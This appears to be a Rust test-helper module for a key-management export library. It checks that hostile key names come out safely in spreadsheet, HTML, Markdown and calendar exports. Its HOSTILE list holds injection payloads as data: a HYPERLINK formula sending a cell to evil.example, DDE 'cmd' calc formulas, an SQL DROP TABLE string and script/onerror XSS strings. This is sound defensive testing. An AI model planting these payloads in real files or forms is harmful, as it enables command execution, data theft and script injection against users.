//! Keys with hostile names, and a language in which every sentence shows its name and values.

use std::io::{self, Write};

use keywright_core::{
    Details, Environment, KeyFormat, KeyGenerator, KeyId, KeyName, KeyPrefix, KeyRecord, Life,
    Timestamp, WorkspaceId,
};
use keywright_export::{Value, Words};
use rand::SeedableRng;
use rand::rngs::StdRng;

pub(crate) const DAY: i64 = 24 * 60 * 60 * 1000;
/// 2027-01-15T08:00:00Z
pub(crate) const NOW: Timestamp = Timestamp(1_800_000_000_000);

/// Names, all of them valid, that mean something in some kind of file.
pub(crate) const HOSTILE: [&str; 29] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "＝1+1",
    "'=quoted",
    "''",
    "\"; DROP TABLE access_key; --",
    "a,b;c\\d",
    "x;=cmd|'/C calc'!A0;y",
    "x;\"=1+1\"",
    "\";=1+1;\"",
    "; @SUM(1,1)",
    "x;'=quoted",
    "<script>alert(1)</script>",
    "</td></table><img src=x onerror=alert(1)>",
    "&lt;b&gt; &amp; &#x27;",
    "\" onmouseover=\"alert(1)",
    "{{ 7 * 7 }} {% endif %} ${x}",
    "**bold** _it_ `code` ~~no~~",
    "[link](javascript:alert(1)) ![x](y)",
    "# heading",
    "1. list - [x] done",
    "| a | b |",
    "<!-- comment",
    "line\\nbreak\\, \\; END:VEVENT",
    "BEGIN:VALARM:\\\\",
    "Schlüssel für 北京 🔑🔑🔑 מפתח",
    "http://evil.example www.evil.example me@evil.example",
];

/// Every sentence as `name{variable=value}`.
pub(crate) const WORDS: Words<'static> = Words {
    language: "x-\"quoted\"",
    say: &|name, values| {
        let values = values.iter().map(|(variable, value)| match value {
            Value::Text(text) => format!("{{{variable}={text}}}"),
            Value::Number(number) => format!("{{{variable}:{number}}}"),
        });
        format!("{name}{}", values.collect::<String>())
    },
    instant: &|at| format!("@{}", (at.0 - NOW.0) / DAY),
};

pub(crate) fn id(number: u8) -> KeyId {
    KeyId::from([number; 16])
}

/// A live key with this number, made a hundred days ago.
pub(crate) fn key(number: u8) -> KeyRecord {
    let mut generator = KeyGenerator::new(StdRng::seed_from_u64(u64::from(number)));
    let access_key = generator
        .access_key(&KeyFormat {
            prefix: KeyPrefix::new("acme").unwrap(),
            environment: Environment::Live,
        })
        .unwrap();
    KeyRecord {
        id: id(number),
        workspace: WorkspaceId(1),
        name: KeyName::new(&format!("Key {number}")).unwrap(),
        provisional: false,
        environment: Environment::Live,
        handle: access_key.parts().map(|parts| parts.handle),
        truncated: access_key.truncated(),
        digest: access_key.digest(),
        created_at: NOW.after(-100 * DAY),
        shown_at: None,
        details: Details::default(),
        life: Life::default(),
    }
}

pub(crate) fn named(number: u8, name: &str) -> KeyRecord {
    KeyRecord {
        name: KeyName::new(name).unwrap(),
        ..key(number)
    }
}

pub(crate) fn details(owner: &str, used_by: &[&str]) -> Details {
    let used_by: Vec<String> = used_by.iter().map(ToString::to_string).collect();
    Details::new(owner, &used_by, &[], "").unwrap()
}

/// What is written.
pub(crate) fn written(write: impl FnOnce(&mut dyn Write) -> io::Result<()>) -> String {
    let mut out = Vec::new();
    write(&mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// The cells of a sheet, as a reader sees them that divides rows here.
pub(crate) fn cells(sheet: &str, delimiter: u8) -> Vec<Vec<String>> {
    let reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(sheet.as_bytes());
    let rows = reader.into_records().map(Result::unwrap);
    rows.map(|row| row.iter().map(str::to_owned).collect())
        .collect()
}

/// No cell is a formula, wherever a reader divides rows.
pub(crate) fn assert_holds_no_formula(sheet: &str) {
    for delimiter in [b',', b';', b'\t'] {
        for cell in cells(sheet, delimiter).iter().flatten() {
            let danger = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r'];
            let begins = cell.trim_start_matches([' ', '"']);
            assert!(!begins.starts_with(danger), "{cell:?} in {sheet}");
        }
    }
}

/// A text as it was before it was written into a cell.
pub(crate) fn as_it_was(cell: &str) -> String {
    let pieces = cell.split_inclusive([';', '\t', '\r', '\n']);
    pieces
        .map(|piece| piece.strip_prefix('\'').unwrap_or(piece))
        .collect()
}

/// A disk with room for so many bytes.
pub(crate) struct Disk(pub(crate) usize);

impl Write for Disk {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let room = bytes.len().min(self.0);
        self.0 -= room;
        match room {
            0 if !bytes.is_empty() => Err(io::ErrorKind::StorageFull.into()),
            _ => Ok(room),
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Whatever is written fails as the disk does, wherever that is full.
pub(crate) fn assert_fails_on_a_full_disk(write: impl Fn(&mut dyn Write) -> io::Result<()>) {
    let whole = written(&write).len();
    for room in [0, 1, whole / 2, whole - 1] {
        let failed = write(&mut Disk(room)).expect_err("there was no room");
        assert_eq!(failed.kind(), io::ErrorKind::StorageFull, "{room} bytes");
    }
    write(&mut Disk(whole)).unwrap();
}
